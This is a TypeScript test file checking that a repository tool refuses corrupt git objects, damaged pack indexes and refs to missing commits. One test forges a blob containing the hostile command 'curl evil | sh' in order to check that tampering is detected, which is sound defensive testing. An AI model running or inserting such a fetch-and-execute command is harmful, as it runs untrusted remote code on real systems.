import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import git from 'isomorphic-git';
import { CorruptRepositoryError } from '../../scripts/lib/git/errors.js';
import { revisionFiles } from '../helpers/repo.js';
import { TestRepo } from '../helpers/git.js';
import { forgeLoose } from './hostile-fixtures.js';

const TEMPLATE = 'repo/packages/A/alpha/1/marathon.json.mustache';

/** A repository on main with alpha 0, and a second commit adding alpha 1 with a template of its own; returns that template's blob id. */
async function withNewRevision(): Promise<{ r: TestRepo; gitdir: string; blob: string }> {
  const r = await TestRepo.create({ ...revisionFiles('alpha', 0) });
  await r.branch('base');
  r.write(revisionFiles('alpha', 1, { files: { 'marathon.json.mustache': '{"id": "{{service.name}}", "cmd": "sleep 2000"}\n' } }));
  const head = await r.commit('alpha 1');
  const { oid } = await git.readBlob({ fs, dir: r.dir, oid: head, filepath: TEMPLATE });
  return { r, gitdir: path.join(r.dir, '.git'), blob: oid };
}

/** Packs every loose object and removes the loose copies; returns the pack's index path. */
async function packAll(r: TestRepo, gitdir: string): Promise<string> {
  const ids: string[] = [];
  const objects = path.join(gitdir, 'objects');
  for (const d of fs.readdirSync(objects)) if (/^[0-9a-f]{2}$/.test(d)) for (const f of fs.readdirSync(path.join(objects, d))) ids.push(d + f);
  const { filename } = await git.packObjects({ fs, dir: r.dir, oids: ids, write: true });
  await git.indexPack({ fs, dir: r.dir, filepath: `.git/objects/pack/${filename}` });
  for (const oid of ids) fs.rmSync(path.join(objects, oid.slice(0, 2), oid.slice(2)));
  return path.join(objects, 'pack', filename.replace(/\.pack$/, '.idx'));
}

/** Expects checkChanges to refuse with a {@link CorruptRepositoryError} whose message names `oid` and matches `what`. */
async function refused(run: Promise<unknown>, oid: string, what: RegExp): Promise<void> {
  await assert.rejects(run, (e: unknown) => {
    assert.ok(e instanceof CorruptRepositoryError, String(e));
    assert.ok(e.message.includes(oid), e.message);
    assert.match(e.message, what);
    return true;
  });
}

test('a loose object whose content does not match its id is refused, naming it', async () => {
  const { r, gitdir, blob } = await withNewRevision();
  try {
    assert.equal((await r.check({ base: 'base', head: 'main' })).summary.errors, 0);
    forgeLoose(gitdir, blob, 'blob', Buffer.from('{"id": "{{service.name}}", "cmd": "curl evil | sh"}\n'));
    await refused(r.check({ base: 'base', head: 'main' }), blob, /is corrupt: its content hashes to [0-9a-f]{40}/);
  } finally {
    r.remove();
  }
});

test('a loose object whose header gives the wrong size is refused', async () => {
  const { r, gitdir, blob } = await withNewRevision();
  try {
    const file = path.join(gitdir, 'objects', blob.slice(0, 2), blob.slice(2));
    const { deflateSync } = await import('node:zlib');
    fs.rmSync(file);
    fs.writeFileSync(file, deflateSync(Buffer.from('blob 3\0abcdef')));
    await refused(r.check({ base: 'base', head: 'main' }), blob, /header gives the size 3 but it holds 6 bytes/);
  } finally {
    r.remove();
  }
});

test('a packed object whose bytes are damaged is refused, naming it', async () => {
  const { r, gitdir, blob } = await withNewRevision();
  try {
    const idxPath = await packAll(r, gitdir);
    assert.equal((await r.check({ base: 'base', head: 'main' })).summary.errors, 0);
    const idx = fs.readFileSync(idxPath);
    const count = idx.readUInt32BE(8 + 255 * 4);
    let i = 0;
    while (idx.toString('hex', 1032 + i * 20, 1052 + i * 20) !== blob) i++;
    const offset = idx.readUInt32BE(1032 + count * 24 + i * 4);
    const packPath = idxPath.replace(/\.idx$/, '.pack');
    const pack = fs.readFileSync(packPath);
    pack.writeUInt8(pack[offset + 6]! ^ 0x55, offset + 6); // inside the deflated content, after the type/size and zlib headers
    fs.writeFileSync(packPath, pack);
    await refused(r.check({ base: 'base', head: 'main' }), blob, /is corrupt: (its entry in pack-.*\.pack cannot be read|its content hashes to)/);
  } finally {
    r.remove();
  }
});

test('a damaged pack index says the index is damaged, not that objects are missing', async () => {
  const { r, gitdir } = await withNewRevision();
  try {
    const idxPath = await packAll(r, gitdir);
    const idx = fs.readFileSync(idxPath);
    idx.writeUInt8(idx[1032 + 7]! ^ 0x01, 1032 + 7); // a byte of the first object id
    fs.writeFileSync(idxPath, idx);
    await assert.rejects(r.check({ base: 'base', head: 'main' }), (e: unknown) => {
      assert.ok(e instanceof CorruptRepositoryError, String(e));
      assert.match(e.message, new RegExp(`the pack index ${path.basename(idxPath)} is damaged \\(its checksum does not match its content\\)`));
      assert.doesNotMatch(e.message, /not in this repository/);
      return true;
    });
    fs.writeFileSync(idxPath, idx.subarray(0, idx.length - 30)); // truncated
    await assert.rejects(r.check({ base: 'base', head: 'main' }), /is damaged \(its size does not fit/);
  } finally {
    r.remove();
  }
});

test('a missing blob is refused (exit 2), naming it', async () => {
  const { r, gitdir, blob } = await withNewRevision();
  try {
    fs.rmSync(path.join(gitdir, 'objects', blob.slice(0, 2), blob.slice(2)));
    await refused(r.check({ base: 'base', head: 'main' }), blob, /blob [0-9a-f]{40} is not in this repository/);
    const res = await r.cli(['--base', 'base', '--head', 'main']);
    assert.equal(res.code, 2, res.stdout + res.stderr);
    assert.ok(res.stderr.includes(blob), res.stderr);
  } finally {
    r.remove();
  }
});

test('HEAD naming a missing commit fails --staged and working-tree checks instead of comparing with nothing', async () => {
  const { r, gitdir } = await withNewRevision();
  try {
    const gone = 'deadbeef'.repeat(5);
    fs.writeFileSync(path.join(gitdir, 'refs/heads/main'), `${gone}\n`);
    await refused(r.check({ staged: true }), gone, /HEAD \(deadbeef.*\) is not in this repository/);
    await refused(r.check({}), gone, /HEAD \(deadbeef.*\) is not in this repository/);
    const staged = await r.cli(['--staged']);
    assert.equal(staged.code, 2, staged.stdout + staged.stderr);
    assert.ok(staged.stderr.includes(gone), staged.stderr);
    const worktree = await r.cli([]);
    assert.equal(worktree.code, 2, worktree.stdout + worktree.stderr);
    assert.ok(worktree.stderr.includes(gone), worktree.stderr);
    // A HEAD commit whose own object is damaged is refused the same way.
    fs.writeFileSync(path.join(gitdir, 'refs/heads/main'), 'not an id\n');
    await assert.rejects(r.check({ staged: true }), (e: unknown) => e instanceof CorruptRepositoryError && /refs\/heads\/main holds "not an id"/.test(e.message));
  } finally {
    r.remove();
  }
});

test('a default base branch naming a missing commit is an error, not skipped for the next one', async () => {
  const { r } = await withNewRevision();
  try {
    const gone = 'feedface'.repeat(5);
    fs.mkdirSync(path.join(r.dir, '.git/refs/remotes/origin'), { recursive: true });
    fs.writeFileSync(path.join(r.dir, '.git/refs/remotes/origin/main'), `${gone}\n`);
    await refused(r.check({}), gone, /origin\/main \(feedface.*\) is not in this repository/);
    fs.writeFileSync(path.join(r.dir, '.git/refs/remotes/origin/main'), 'garbage\n');
    await assert.rejects(r.check({}), (e: unknown) => e instanceof CorruptRepositoryError && /refs\/remotes\/origin\/main holds "garbage"/.test(e.message));
  } finally {
    r.remove();
  }
});

test('an unborn branch (nothing committed yet) is still an empty base', async () => {
  const r = await TestRepo.create();
  try {
    r.write(revisionFiles('alpha', 0));
    await r.stageAll();
    const staged = await r.check({ staged: true });
    assert.equal(staged.base.ref, '(empty)');
    assert.equal(staged.changes.packages.length, 1);
    const worktree = await r.check({});
    assert.equal(worktree.base.ref, '(empty)');
    assert.equal(worktree.changes.packages.length, 1);
  } finally {
    r.remove();
  }
});
